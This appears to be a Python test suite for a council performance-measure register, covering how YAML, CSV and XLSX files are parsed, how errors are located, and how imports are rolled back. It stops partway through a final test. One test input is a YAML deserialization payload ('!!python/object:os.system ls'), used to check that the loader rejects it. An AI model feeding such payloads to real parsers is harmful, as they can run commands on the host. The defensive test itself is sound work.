"""The measure register (PRODUCT §3): parsing YAML, CSV and XLSX with located errors, and
importing it into the database all-or-nothing, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import hashlib
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import Workbook
from sqlalchemy import Engine, func
from sqlmodel import SQLModel, col, select

from bot import services
from bot.errors import InputRejected, LocatedError, NotFound
from bot.periods import Period
from bot.ragg import Target
from bot.register import RegisterSpec, load_register
from storage import register_store
from storage.engine import read_session, write_session
from storage.models import Aim, AuditEvent, Council, Measure, Person, Priority
from storage.models import Target as TargetRow
from tests.conftest import EXAMPLES, Cli

NOW = datetime(2026, 5, 1, 9, 0, tzinfo=UTC)
TODAY = date(2026, 5, 1)
ACTOR = "policy.officer@example.gov.uk"

# -- building register files ------------------------------------------------------------------

MEASURE: dict[str, str] = {
    "ref": "SE1.1",
    "title": "Reduction in the council's own CO2 emissions",
    "definition": "Percentage reduction against the 2019-20 baseline",
    "interval": "quarterly",
    "format": "percentage",
    "decimals": "1",
    "polarity": "higher",
    "baseline": "{period: 2019-20, value: 0}",
    "targets": "{2025-26: 30, 2026-27: 35}",
    "collector": "jane.doe@example.gov.uk",
    "reviewer": "hos.env@example.gov.uk",
    "head_of_service": "hos.env@example.gov.uk",
}


def measure(**changes: str | None) -> str:
    """One measure as YAML lines under an aim's `measures:`; a change of None drops the field,
    a new name is added at the end."""
    fields = {**MEASURE, **changes}
    lines: list[str] = []
    for key, value in fields.items():
        if value is not None:
            lines.append(f"{'  ' if lines else '- '}{key}: {value}")
    return "".join(f"          {line}\n" for line in lines)


def register_yaml(*measures: str, region: str = "ENG") -> str:
    return (
        "council: Test District Council\n"
        "calendar:\n"
        f"  region: {region}\n"
        "people:\n"
        "  - {email: jane.doe@example.gov.uk, name: Jane Doe, manager: hos.env@example.gov.uk}\n"
        "  - {email: hos.env@example.gov.uk, name: Helen Carter}\n"
        "priorities:\n"
        "  - code: SE\n"
        "    name: Shape our Environment\n"
        "    aims:\n"
        "      - code: SE1\n"
        "        title: Tackle climate change\n"
        "        measures:\n" + "".join(measures or (measure(),))
    )


def line_of(text: str, needle: str, occurrence: int = 1) -> int:
    """The 1-based number of the line holding `needle` (its `occurrence`-th such line)."""
    found = [number for number, line in enumerate(text.splitlines(), 1) if needle in line]
    assert len(found) >= occurrence, f"{needle!r} is not in the text {occurrence} times"
    return found[occurrence - 1]


def write(tmp_path: Path, text: str, name: str = "register.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def rejected(path: Path) -> list[LocatedError]:
    with pytest.raises(InputRejected) as caught:
        load_register(path)
    assert caught.value.what == "register"
    assert "Nothing was changed." in caught.value.summary()
    return caught.value.errors


def only_error(path: Path) -> LocatedError:
    errors = rejected(path)
    assert len(errors) == 1, errors
    return errors[0]


def targets_of(spec: RegisterSpec, ref: str) -> dict[Period, Target]:
    return next(m for _, _, m in spec.measures() if m.ref == ref).target_map()


# -- valid registers --------------------------------------------------------------------------


def test_the_example_register_loads() -> None:
    spec = load_register(EXAMPLES / "register.yaml")
    assert spec.council == "Example District Council"
    assert [p.code for p in spec.priorities] == ["SE", "DE", "SC", "TC"]
    refs = [m.ref for _, _, m in spec.measures()]
    assert len(refs) == len(set(refs)) == 24  # 22 measures and 2 projects
    assert targets_of(spec, "SE1.1") == {
        Period.parse("2025-26"): Target(Decimal(30)),
        Period.parse("2026-27"): Target(Decimal(35)),
    }
    assert targets_of(spec, "DE2.1")[Period.parse("2025-26")] == Target(Decimal(40), Decimal(56))


def test_a_small_register_loads_with_defaults_filled_in(tmp_path: Path) -> None:
    spec = load_register(write(tmp_path, register_yaml()))
    [(priority, aim, found)] = list(spec.measures())
    assert (priority.code, aim.code, found.ref) == ("SE", "SE1", "SE1.1")
    assert found.reporting_lag == 8
    assert found.tolerance == Decimal(5)
    assert found.baseline is not None
    assert (found.baseline.period, found.baseline.value) == ("2019-20", Decimal(0))
    assert spec.emails() == {"jane.doe@example.gov.uk", "hos.env@example.gov.uk"}


def test_a_yml_file_with_a_byte_order_mark_and_mixed_case_emails_loads(tmp_path: Path) -> None:
    text = register_yaml(measure(collector="Jane.Doe@Example.gov.uk", ref="se1.1"))
    path = tmp_path / "register.yml"
    path.write_text(text, encoding="utf-8-sig")
    [(_, _, found)] = list(load_register(path).measures())
    assert (found.ref, found.collector) == ("SE1.1", "jane.doe@example.gov.uk")


# -- one mistake in a measure: the error names the line and the field -----------------------


MEASURE_MISTAKES = [
    # id, changes, field, words in the message, text on the line the error points at
    ("unknown field", {"colour": "blue"}, "colour", "not a field the register knows", "colour:"),
    ("missing field", {"definition": None}, "definition", "is required", "- ref: SE1.1"),
    (
        "reviewer is the collector",
        {"reviewer": "jane.doe@example.gov.uk"},
        "reviewer",
        "segregation of duties",
        "reviewer:",
    ),
    (
        "reviewer is the collector in other case",
        {"reviewer": "Jane.Doe@EXAMPLE.gov.uk"},
        "reviewer",
        "segregation of duties",
        "reviewer:",
    ),
    (
        "cover is the collector",
        {"cover": "jane.doe@example.gov.uk"},
        "cover",
        "second officer",
        "cover:",
    ),
    (
        "bad collector e-mail",
        {"collector": "jane.doe(at)example.gov.uk"},
        "collector",
        "'jane.doe(at)example.gov.uk' is not an e-mail address",
        "collector:",
    ),
    (
        "bad head of service e-mail",
        {"head_of_service": "hos.env@"},
        "head_of_service",
        "is not an e-mail address",
        "head_of_service:",
    ),
    (
        "bad period in targets",
        {"targets": "{2025-26: 30, 2026-2x: 35}"},
        "targets.2026-2x",
        "'2026-2x' is not a period label",
        "targets:",
    ),
    (
        "bad baseline period",
        {"baseline": "{period: Q5 2019, value: 0}"},
        "baseline.period",
        "'Q5 2019' is not a period",
        "baseline:",
    ),
    ("decimals above 6", {"decimals": "7"}, "decimals", "0 to 6 (found 7)", "decimals:"),
    ("decimals below 0", {"decimals": "-1"}, "decimals", "0 to 6 (found -1)", "decimals:"),
    (
        "percentage target above 100",
        {"targets": "{2025-26: 130}"},
        "targets.2025-26",
        "130 is not a percentage",
        "targets:",
    ),
    (
        "percentage target below 0",
        {"targets": "{2025-26: -5}"},
        "targets.2025-26",
        "-5 is not a percentage",
        "targets:",
    ),
    (
        "percentage baseline above 100",
        {"baseline": "{period: 2019-20, value: 120}"},
        "baseline.value",
        "120 is not a percentage",
        "baseline:",
    ),
    (
        "range polarity with a single-number target",
        {"format": "number", "polarity": "range", "targets": "{2025-26: 50}"},
        "targets.2025-26",
        "polarity is range, so the target must be [low, high]",
        "targets:",
    ),
    (
        "range target on a higher-is-better measure",
        {"targets": "{2025-26: [40, 56]}"},
        "targets.2025-26",
        "needs polarity: range",
        "targets:",
    ),
    (
        "range target low above high",
        {"format": "number", "polarity": "range", "targets": "{2025-26: [56, 40]}"},
        "targets.2025-26",
        "the low end 56 is above the high end 40",
        "targets:",
    ),
    (
        "range target with three numbers",
        {"format": "number", "polarity": "range", "targets": "{2025-26: [1, 2, 3]}"},
        "targets.2025-26",
        "exactly two numbers",
        "targets:",
    ),
    (
        "target that is not a number",
        {"targets": "{2025-26: lots}"},
        "targets.2025-26",
        "'lots' is not a number",
        "targets:",
    ),
    (
        "range target with a word in it",
        {"format": "number", "polarity": "range", "targets": "{2025-26: [40, lots]}"},
        "targets.2025-26",
        "'lots' is not a number",
        "targets:",
    ),
    (
        "unknown interval",
        {"interval": "fortnightly"},
        "interval",
        "'fortnightly' is not allowed; use monthly, quarterly, biannual or annual",
        "interval:",
    ),
    (
        "unknown polarity",
        {"polarity": "sideways"},
        "polarity",
        "'sideways' is not allowed; use higher, lower or range",
        "polarity:",
    ),
    (
        "unknown format",
        {"format": "ratio"},
        "format",
        "'ratio' is not allowed; use percentage, number or currency",
        "format:",
    ),
    (
        "unknown confidence",
        {"confidence": "purple"},
        "confidence",
        "'purple' is not allowed; use green, amber or red",
        "confidence:",
    ),
    (
        "reporting lag too long",
        {"reporting_lag": "61"},
        "reporting_lag",
        "0 to 60 working days",
        "reporting_lag:",
    ),
    ("tolerance above 100", {"tolerance": "101"}, "tolerance", "0 to 100", "tolerance:"),
    ("negative absolute tolerance", {"tolerance_abs": "-1"}, "tolerance_abs", "negative", "_abs:"),
    ("cumulative not a yes/no", {"cumulative": "maybe"}, "cumulative", "true or false", "cumul"),
    (
        "units longer than the database holds",
        {"units": "kilograms of residual household waste per household"},
        "units",
        "too long",
        "units:",
    ),
    (
        "ref longer than the database holds",
        {"ref": "SE1.123456789012345678"},
        "ref",
        "too long",
        "- ref:",
    ),
]


@pytest.mark.parametrize(
    ("changes", "field", "words", "needle"),
    [pytest.param(*case[1:], id=case[0]) for case in MEASURE_MISTAKES],
)
def test_a_mistake_in_a_measure_is_reported_at_its_line_and_field(
    tmp_path: Path, changes: dict[str, str | None], field: str, words: str, needle: str
) -> None:
    text = register_yaml(measure(**changes))
    error = only_error(write(tmp_path, text))
    assert error.file == "register.yaml"
    assert error.where == f"line {line_of(text, needle)}"
    ref = changes.get("ref", "SE1.1")
    assert error.field == f"measure {ref}, {field}"
    assert words in error.message


def test_an_unknown_calendar_region_is_reported_at_its_line(tmp_path: Path) -> None:
    text = register_yaml(region="WAL")
    error = only_error(write(tmp_path, text))
    assert (error.where, error.field) == (f"line {line_of(text, 'region: WAL')}", "calendar.region")
    assert error.message == "'WAL' is not allowed; use ENG, SCT or NIR"


def test_an_unknown_top_level_field_and_a_bad_admin_email_are_reported(tmp_path: Path) -> None:
    text = register_yaml().replace("council:", "admins: [not-an-email]\ncouncill:", 1)
    errors = rejected(write(tmp_path, text))
    assert [(e.where, e.field) for e in errors] == [
        (f"line {line_of(text, 'admins:')}", "admins.item 1"),
        (f"line {line_of(text, 'councill:')}", "councill"),
    ]
    assert "'not-an-email' is not an e-mail address" in errors[0].message
    assert "'councill' is not a field the register knows" in errors[1].message


def test_a_duplicate_ref_names_both_lines(tmp_path: Path) -> None:
    text = register_yaml(measure(), measure(title="Another measure"))
    error = only_error(write(tmp_path, text))
    first, second = line_of(text, "- ref: SE1.1", 1), line_of(text, "- ref: SE1.1", 2)
    assert (error.where, error.field) == (f"line {second}", "measure SE1.1, ref")
    assert f"ref SE1.1 is used twice (also at line {first})" in error.message


def test_a_duplicate_yaml_key_is_reported_at_the_second_key(tmp_path: Path) -> None:
    text = register_yaml(measure()).replace(
        "  title: Reduction", "  title: Again\n            title: Reduction", 1
    )
    error = only_error(write(tmp_path, text))
    assert error.where == f"line {line_of(text, 'title: Reduction')}"
    assert error.message == "'title' appears twice; keep one"


@pytest.mark.parametrize(
    ("bad_line", "words", "offset"),
    [
        pytest.param("  units: kg: per household", "mapping values are not allowed", 0, id="colon"),
        # An unclosed list is only noticed on the next line, where YAML finds the clash.
        pytest.param("  units: [kg, per household", "expected ',' or ']'", 1, id="unclosed list"),
        pytest.param("\tunits: kg", "tab" if yaml.__with_libyaml__ else "'\\t'", 0, id="tab"),
    ],
)
def test_a_yaml_syntax_error_is_reported_with_its_line(
    tmp_path: Path, bad_line: str, words: str, offset: int
) -> None:
    text = register_yaml(measure() + f"          {bad_line}\n" + measure(ref="SE1.2"))
    error = only_error(write(tmp_path, text))
    assert error.where == f"line {line_of(text, 'units:') + offset}"
    assert error.message.startswith("not valid YAML: ")
    assert words in error.message


@pytest.mark.parametrize(
    ("bad_line", "words"),
    [
        pytest.param("  units: !!python/object:os.system ls", "tag", id="python tag"),
        pytest.param("  baseline: {period: 2019-20, value: !!int lots}", "lots", id="bad int"),
        pytest.param("  closure: 2025-02-30", "2025-02-30", id="impossible date"),
        pytest.param("  ? [a, b]\n            : 1", "field name", id="list as a key"),
    ],
)
def test_yaml_that_cannot_be_built_is_reported_not_a_crash(
    tmp_path: Path, bad_line: str, words: str
) -> None:
    text = register_yaml(measure(baseline=None) + f"          {bad_line}\n")
    error = only_error(write(tmp_path, text))
    assert error.where == f"line {line_of(text, bad_line.split()[0] + ' ')}"
    assert words in error.message


def test_an_impossible_closure_day_is_reported_at_its_line(tmp_path: Path) -> None:
    text = register_yaml().replace(
        "  region: ENG\n", "  region: ENG\n  closure_days: [2025-02-30]\n"
    )
    error = only_error(write(tmp_path, text))
    assert error.where == f"line {line_of(text, 'closure_days')}"
    assert "'2025-02-30' is not a real date" in error.message


def test_every_problem_in_a_file_is_reported_in_one_go(tmp_path: Path) -> None:
    text = register_yaml(
        measure(decimals="7", colour="blue"),
        measure(ref="SE1.2", reviewer="jane.doe@example.gov.uk", targets="{2025-26: 130}"),
        measure(interval="weekly"),  # a second SE1.1, itself broken too
        region="WAL",
    )
    errors = rejected(write(tmp_path, text))
    expected = [
        (line_of(text, "region: WAL"), "calendar.region", "'WAL' is not allowed"),
        (line_of(text, "decimals: 7"), "measure SE1.1, decimals", "0 to 6"),
        (line_of(text, "colour: blue"), "measure SE1.1, colour", "not a field"),
        (line_of(text, "targets: {2025-26: 130}"), "measure SE1.2, targets.2025-26", "130 is not"),
        (line_of(text, "reviewer: jane.doe"), "measure SE1.2, reviewer", "segregation"),
        (line_of(text, "- ref: SE1.1", 2), "measure SE1.1, ref", "used twice"),
        (line_of(text, "interval: weekly"), "measure SE1.1, interval", "'weekly' is not"),
    ]
    assert len(errors) == len(expected) == 7
    for error, (line, field, words) in zip(errors, expected, strict=True):
        assert (error.file, error.where, error.field) == ("register.yaml", f"line {line}", field)
        assert words in error.message
    summary = InputRejected(errors, "register").summary()
    assert summary.startswith("The register was not imported: 7 problems to fix.")


# -- whole-file problems ----------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "\n\n", "# nothing but a comment\n"])
def test_an_empty_file_is_refused(tmp_path: Path, text: str) -> None:
    error = only_error(write(tmp_path, text))
    assert (error.file, error.where, error.message) == ("register.yaml", None, "the file is empty")


@pytest.mark.parametrize("text", ["- SE1.1\n- SE1.2\n", "just some words\n", "42\n"])
def test_a_document_that_is_not_a_mapping_is_refused(tmp_path: Path, text: str) -> None:
    error = only_error(write(tmp_path, text))
    assert error.where == "line 1"
    assert "a register starts with 'council:'" in error.message


def test_two_yaml_documents_in_one_file_are_refused(tmp_path: Path) -> None:
    text = register_yaml() + "---\ncouncil: Another\n"
    error = only_error(write(tmp_path, text))
    assert error.where == f"line {line_of(text, '---')}"
    assert "another document" in error.message


@pytest.mark.parametrize("name", ["register.txt", "register.json", "register", "register.xls"])
def test_a_file_of_the_wrong_kind_is_refused(tmp_path: Path, name: str) -> None:
    error = only_error(write(tmp_path, register_yaml(), name))
    assert (error.file, error.where) == (name, None)
    assert error.message == "use a .yaml, .yml, .csv or .xlsx file"


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    error = only_error(tmp_path / "nowhere.yaml")
    assert error.file.endswith("nowhere.yaml")
    assert error.message == "there is no such file"


def test_a_file_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "register.yaml"
    path.write_bytes(register_yaml().replace("Test District", "Café District").encode("latin-1"))
    error = only_error(path)
    assert (error.file, error.where) == ("register.yaml", "line 1")  # the line with the é
    assert error.message.startswith("is not UTF-8 text")


# -- CSV --------------------------------------------------------------------------------------

CSV_COLUMNS = [
    "priority",
    "priority_name",
    "aim",
    "aim_title",
    "ref",
    "title",
    "definition",
    "interval",
    "format",
    "decimals",
    "polarity",
    "baseline.period",
    "baseline.value",
    "targets",
    "targets.2027-28",
    "collector",
    "reviewer",
    "head_of_service",
]

CSV_ROWS: list[dict[str, Any]] = [
    {
        "priority": "SE",
        "priority_name": "Shape our Environment",
        "aim": "SE1",
        "aim_title": "Tackle climate change",
        "ref": "SE1.1",
        "title": "CO2 reduction",
        "definition": "Reduction against 2019-20",
        "interval": "quarterly",
        "format": "percentage",
        "decimals": 1,
        "polarity": "higher",
        "baseline.period": "2019-20",
        "baseline.value": 0,
        "targets": "2025-26: 30; 2026-27: 35",
        "targets.2027-28": 40,
        "collector": "jane.doe@example.gov.uk",
        "reviewer": "hos.env@example.gov.uk",
        "head_of_service": "hos.env@example.gov.uk",
    },
    {
        "priority": "DE",
        "priority_name": "Drive our Economy",
        "aim": "DE2",
        "aim_title": "Well-planned growth",
        "ref": "DE2.1",
        "title": "Days to decide minor applications",
        "definition": "Mean days from valid receipt to decision",
        "interval": "quarterly",
        "format": "number",
        "decimals": 1,
        "polarity": "range",
        "baseline.period": "2024-25",
        "baseline.value": "51.3",
        "targets": "2025-26: [40, 56]",
        "targets.2027-28": "[38, 54]",
        "collector": "chris.walker@example.gov.uk",
        "reviewer": "hos.planning@example.gov.uk",
        "head_of_service": "hos.planning@example.gov.uk",
    },
    {
        "priority": "SE",
        "priority_name": "",
        "aim": "SE1",
        "aim_title": "",
        "ref": "SE1.2",
        "title": "Household waste recycled",
        "definition": "Per cent of household waste",
        "interval": "monthly",
        "format": "percentage",
        "decimals": 0,
        "polarity": "higher",
        "baseline.period": "",
        "baseline.value": "",
        "targets": "",
        "targets.2027-28": "",
        "collector": "sam.lee@example.gov.uk",
        "reviewer": "waste.manager@example.gov.uk",
        "head_of_service": "hos.env@example.gov.uk",
    },
]


def write_csv(
    path: Path,
    rows: Sequence[dict[str, Any]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
    columns: Sequence[str] = CSV_COLUMNS,
) -> Path:
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(columns)
        writer.writerows([[row.get(name, "") for name in columns] for row in rows])
    return path


def check_csv_register(spec: RegisterSpec) -> None:
    assert spec.council is None
    assert [(p.code, p.name) for p in spec.priorities] == [
        ("SE", "Shape our Environment"),
        ("DE", "Drive our Economy"),
    ]
    assert [(a.code, a.title, [m.ref for m in a.measures]) for a in spec.priorities[0].aims] == [
        ("SE1", "Tackle climate change", ["SE1.1", "SE1.2"])
    ]
    assert targets_of(spec, "SE1.1") == {
        Period.parse("2025-26"): Target(Decimal(30)),
        Period.parse("2026-27"): Target(Decimal(35)),
        Period.parse("2027-28"): Target(Decimal(40)),
    }
    assert targets_of(spec, "DE2.1") == {
        Period.parse("2025-26"): Target(Decimal(40), Decimal(56)),
        Period.parse("2027-28"): Target(Decimal(38), Decimal(54)),
    }
    measures = {m.ref: m for _, _, m in spec.measures()}
    assert measures["DE2.1"].baseline is not None
    assert measures["DE2.1"].baseline.value == Decimal("51.3")
    assert measures["SE1.2"].baseline is None
    assert measures["SE1.2"].targets == {}
    assert measures["SE1.1"].decimals == 1


def test_a_csv_register_loads(tmp_path: Path) -> None:
    check_csv_register(load_register(write_csv(tmp_path / "register.csv", CSV_ROWS)))


def test_a_semicolon_csv_with_a_byte_order_mark_loads(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "register.csv", CSV_ROWS, delimiter=";", encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfpriority;")
    check_csv_register(load_register(path))


def test_a_windows_1252_csv_loads(tmp_path: Path) -> None:
    rows = [{**CSV_ROWS[0], "title": "CO2 reduction – council estate"}]
    path = write_csv(tmp_path / "register.csv", rows, encoding="cp1252")
    [(_, _, found)] = list(load_register(path).measures())
    assert found.title == "CO2 reduction – council estate"


def test_a_csv_that_is_neither_utf8_nor_windows_1252_is_refused(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "register.csv", CSV_ROWS)
    path.write_bytes(path.read_bytes().replace(b"CO2", b"CO\x81"))
    error = only_error(path)
    assert (error.file, error.where) == ("register.csv", None)
    assert "UTF-8" in error.message


def test_bad_csv_rows_are_all_reported_with_row_and_field(tmp_path: Path) -> None:
    rows = [
        CSV_ROWS[0],
        {**CSV_ROWS[1], "decimals": 9},  # row 3
        {**CSV_ROWS[2], "reviewer": "sam.lee@example.gov.uk"},  # row 4
        {**CSV_ROWS[2], "ref": "SE1.3", "aim": ""},  # row 5
        {**CSV_ROWS[2], "ref": "SE1.4", "targets": "2025-26 60"},  # row 6
        {**CSV_ROWS[2], "ref": "SE1.1", "interval": "weekly"},  # row 7
    ]
    errors = rejected(write_csv(tmp_path / "register.csv", rows))
    assert [(e.file, e.where, e.field) for e in errors] == [
        ("register.csv", "row 3", "measure DE2.1, decimals"),
        ("register.csv", "row 4", "measure SE1.2, reviewer"),
        ("register.csv", "row 5", "aim"),
        ("register.csv", "row 6", "targets"),
        ("register.csv", "row 7", "measure SE1.1, interval"),
        ("register.csv", "row 7", "measure SE1.1, ref"),
    ]
    assert "0 to 6 (found 9)" in errors[0].message
    assert "segregation of duties" in errors[1].message
    assert "is empty" in errors[2].message
    assert "'2025-26 60' is not a target" in errors[3].message
    assert "also at row 2" in errors[5].message


def test_a_csv_without_priority_and_aim_columns_is_refused_at_row_1(tmp_path: Path) -> None:
    columns = [name for name in CSV_COLUMNS if name not in ("priority", "aim")]
    errors = rejected(write_csv(tmp_path / "register.csv", CSV_ROWS, columns=columns))
    assert [(e.where, e.message.split(":")[0]) for e in errors] == [
        ("row 1", "column 'priority' is missing"),
        ("row 1", "column 'aim' is missing"),
    ]


def test_an_unknown_csv_column_is_reported_as_a_field(tmp_path: Path) -> None:
    rows = [{**CSV_ROWS[0], "colour": "blue"}]
    path = write_csv(tmp_path / "register.csv", rows, columns=[*CSV_COLUMNS, "colour"])
    error = only_error(path)
    assert (error.where, error.field) == ("row 2", "measure SE1.1, colour")
    assert "not a field the register knows" in error.message


def test_an_empty_csv_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "register.csv"
    path.write_text("")
    error = only_error(path)
    assert error.where is None
    assert "no header row" in error.message


# -- XLSX -------------------------------------------------------------------------------------


def write_xlsx(path: Path, rows: Sequence[Sequence[Any]], title: str = "measures") -> Path:
    workbook = Workbook()
    notes = workbook.active
    assert notes is not None
    notes.title = "Notes"
    notes.append(["This sheet is not the register."])
    sheet = workbook.create_sheet(title)
    for row in rows:
        sheet.append(list(row))
    workbook.save(path)
    return path


def xlsx_rows(rows: Sequence[dict[str, Any]]) -> list[list[Any]]:
    def typed(name: str, value: Any) -> Any:
        if value == "":
            return None
        if name in ("decimals", "baseline.value", "targets.2027-28"):
            try:
                return float(value) if "." in str(value) else int(value)
            except ValueError:
                return value
        return value

    return [list(CSV_COLUMNS)] + [[typed(n, row.get(n, "")) for n in CSV_COLUMNS] for row in rows]


def test_an_xlsx_register_loads_from_its_measures_sheet(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "register.xlsx", xlsx_rows(CSV_ROWS), title="Measures")
    check_csv_register(load_register(path))


def test_an_xlsx_month_cell_that_excel_made_a_date_is_read_as_the_month(tmp_path: Path) -> None:
    rows = xlsx_rows([{**CSV_ROWS[2], "baseline.period": "x"}])
    rows[1][CSV_COLUMNS.index("baseline.period")] = datetime(2025, 7, 1)
    [(_, _, found)] = list(load_register(write_xlsx(tmp_path / "r.xlsx", rows)).measures())
    assert found.baseline is not None
    assert found.baseline.period == "2025-07"


def test_xlsx_errors_name_the_sheet_and_row(tmp_path: Path) -> None:
    rows = xlsx_rows(
        [
            CSV_ROWS[0],
            {**CSV_ROWS[1], "polarity": "sideways"},
            {**CSV_ROWS[2], "collector": "waste.manager@example.gov.uk"},
        ]
    )
    errors = rejected(write_xlsx(tmp_path / "register.xlsx", rows))
    assert [(e.file, e.where, e.field) for e in errors] == [
        ("register.xlsx", "sheet measures, row 3", "measure DE2.1, polarity"),
        ("register.xlsx", "sheet measures, row 4", "measure SE1.2, reviewer"),
    ]


def test_a_damaged_xlsx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"
    path.write_text("this is not a workbook")
    error = only_error(path)
    assert error.where is None
    assert error.message.startswith("cannot be opened as a workbook")


# -- importing into the database (SQLite and PostgreSQL) --------------------------------------

COUNTED: list[type[SQLModel]] = [Measure, Person, AuditEvent, Priority, Aim, TargetRow]


def counts(engine: Engine) -> dict[str, int]:
    with read_session(engine) as session:
        return {
            model.__name__: session.exec(select(func.count()).select_from(model)).one()
            for model in COUNTED
        }


def audit_events(engine: Engine, after_seq: int = 0) -> list[AuditEvent]:
    with read_session(engine) as session:
        query = select(AuditEvent).where(AuditEvent.seq > after_seq).order_by(col(AuditEvent.seq))
        return list(session.exec(query))


def last_seq(engine: Engine) -> int:
    events = audit_events(engine)
    return events[-1].seq if events else 0


def stored_measure(engine: Engine, ref: str) -> Measure:
    with read_session(engine) as session:
        return session.exec(select(Measure).where(Measure.ref == ref)).one()


def import_file(
    engine: Engine, path: Path, *, dry_run: bool = False, retire_missing: bool = False
) -> Any:
    return services.import_register(
        engine, path, actor=ACTOR, now=NOW, dry_run=dry_run, retire_missing=retire_missing
    )


def two_measures(**second: str | None) -> str:
    return register_yaml(
        measure(),
        measure(**{"ref": "SE1.2", "title": "Household waste recycled", **second}),
    )


def test_an_import_creates_everything_with_audit_events(engine: Engine, tmp_path: Path) -> None:
    report = import_file(engine, write(tmp_path, two_measures()))
    assert (report.created, report.updated, report.unchanged) == (["SE1.1", "SE1.2"], [], 0)
    assert sorted(report.people_added) == ["hos.env@example.gov.uk", "jane.doe@example.gov.uk"]
    assert counts(engine) == {
        "Measure": 2,
        "Person": 2,
        "AuditEvent": 8,  # council, 2 people, priority, aim, 2 measures, the import summary
        "Priority": 1,
        "Aim": 1,
        "Target": 4,
    }
    actions = [event.action for event in audit_events(engine)]
    assert actions[-1] == "register.import"
    assert actions.count("measure.create") == 2
    assert {event.actor for event in audit_events(engine)} == {ACTOR}


def test_a_register_with_an_error_leaves_the_database_untouched(
    engine: Engine, tmp_path: Path
) -> None:
    import_file(engine, write(tmp_path, two_measures()))
    before = counts(engine)
    bad = register_yaml(
        measure(title="A changed title"),
        measure(ref="SE1.3", title="A new measure", decimals="9"),
    )
    with pytest.raises(InputRejected):
        import_file(engine, write(tmp_path, bad, "bad.yaml"))
    assert counts(engine) == before
    assert stored_measure(engine, "SE1.1").title == MEASURE["title"]
    assert stored_measure(engine, "SE1.2").active


def test_a_failure_part_way_through_writing_rolls_everything_back(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = register_store._apply_measure
    calls: list[str] = []

    def failing(*args: Any, **kwargs: Any) -> None:
        calls.append("x")
        if len(calls) == 2:
            raise RuntimeError("the database went away")
        real(*args, **kwargs)

    monkeypatch.setattr(register_store, "_apply_measure", failing)
    with pytest.raises(RuntimeError):
        import_file(engine, write(tmp_path, two_measures()))
    assert set(counts(engine).values()) == {0}


def test_a_dry_run_reports_what_it_would_do_and_changes_nothing(
    engine: Engine, tmp_path: Path
) -> None:
    before = counts(engine)
    report = import_file(engine, write(tmp_path, two_measures()), dry_run=True)
    assert report.created == ["SE1.1", "SE1.2"]
    assert len(report.people_added) == 2
    assert counts(engine) == before
    import_file(engine, write(tmp_path, two_measures()))
    before = counts(engine)
    changed = register_yaml(measure(title="A changed title"))
    report = import_file(
        engine, write(tmp_path, changed, "changed.yaml"), dry_run=True, retire_missing=True
    )
    assert (report.updated, report.retired) == (["SE1.1"], ["SE1.2"])
    assert counts(engine) == before
    assert stored_measure(engine, "SE1.1").title == MEASURE["title"]
    assert stored_measure(engine, "SE1.2").active


def test_importing_the_same_file_again_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    path = write(tmp_path, two_measures())
    import_file(engine, path)
    before, seq = counts(engine), last_seq(engine)
    report = import_file(engine, path)
    assert (report.created, report.updated, report.unchanged, report.retired) == ([], [], 2, [])
    assert report.people_added == []
    [event] = audit_events(engine, seq)
    assert (event.action, event.entity_key, event.actor) == ("register.import", path.name, ACTOR)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    assert event.after == {
        "created": 0,
        "updated": 0,
        "unchanged": 2,
        "retired": 0,
        "people_added": 0,
        "file_sha256": digest,
        "register_version": 1,
    }
    assert counts(engine) == {**before, "AuditEvent": before["AuditEvent"] + 1}


def test_the_same_file_is_read_again_when_the_register_changed_since(
    engine: Engine, tmp_path: Path
) -> None:
    """An unchanged file is known by its bytes and the register version, and not read again;
    once the register has changed some other way, the same file is applied in full."""
    path = write(tmp_path, two_measures())
    import_file(engine, path)
    title = stored_measure(engine, "SE1.2").title
    with write_session(engine) as session:
        stored = session.exec(select(Measure).where(Measure.ref == "SE1.2")).one()
        stored.title = "Edited elsewhere"
        session.add(stored)
    assert import_file(engine, path).unchanged == 2  # version unchanged: the file is not read
    assert stored_measure(engine, "SE1.2").title == "Edited elsewhere"
    with write_session(engine) as session:
        council = session.exec(select(Council)).one()
        council.register_version += 1
        session.add(council)
    report = import_file(engine, path)
    assert (report.updated, report.unchanged) == (["SE1.2"], 1)
    assert stored_measure(engine, "SE1.2").title == title == "Household waste recycled"


def test_a_changed_title_and_target_update_the_measure_in_place(
    engine: Engine, tmp_path: Path
) -> None:
    import_file(engine, write(tmp_path, two_measures()))
    original = stored_measure(engine, "SE1.2")
    seq = last_seq(engine)
    changed = two_measures(title="Waste reused, recycled or composted", targets="{2025-26: 50}")
    report = import_file(engine, write(tmp_path, changed, "changed.yaml"))
    assert (report.created, report.updated, report.unchanged) == ([], ["SE1.2"], 1)
    updated = stored_measure(engine, "SE1.2")
    assert updated.id == original.id
    assert updated.title == "Waste reused, recycled or composted"
    [update, summary] = audit_events(engine, seq)
    assert (update.action, update.entity_key, update.actor) == ("measure.update", "SE1.2", ACTOR)
    assert update.before == {
        "title": "Household waste recycled",
        "targets": {"2025-26": "30", "2026-27": "35"},
    }
    assert update.after == {
        "title": "Waste reused, recycled or composted",
        "targets": {"2025-26": "50"},
    }
    assert summary.action == "register.import"
    with read_session(engine) as session:
        rows = session.exec(select(TargetRow).where(TargetRow.measure_id == original.id)).all()
    assert [(row.period, row.low, row.high) for row in rows] == [("2025-26", Decimal(50), None)]


def test_a_measure_dropped_from_the_file_is_retired_and_comes_back(
    engine: Engine, tmp_path: Path
) -> None:
    both = write(tmp_path, two_measures())
